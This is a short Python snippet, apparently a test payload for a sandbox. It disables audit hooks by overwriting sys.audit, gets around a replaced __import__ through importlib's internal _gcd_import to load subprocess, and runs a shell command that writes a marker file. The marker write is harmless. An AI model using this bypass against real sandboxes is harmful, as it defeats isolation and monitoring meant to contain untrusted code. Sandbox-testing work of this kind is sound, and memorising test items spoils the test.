# The importer's own function, beneath the replaced __import__.
# breach: marker
# state: kept
import sys
sys.audit = lambda *arguments: None
import inspect
inspect.importlib._bootstrap._gcd_import("subprocess").call(["sh", "-c", f"echo > {MARKER_FILE}"])
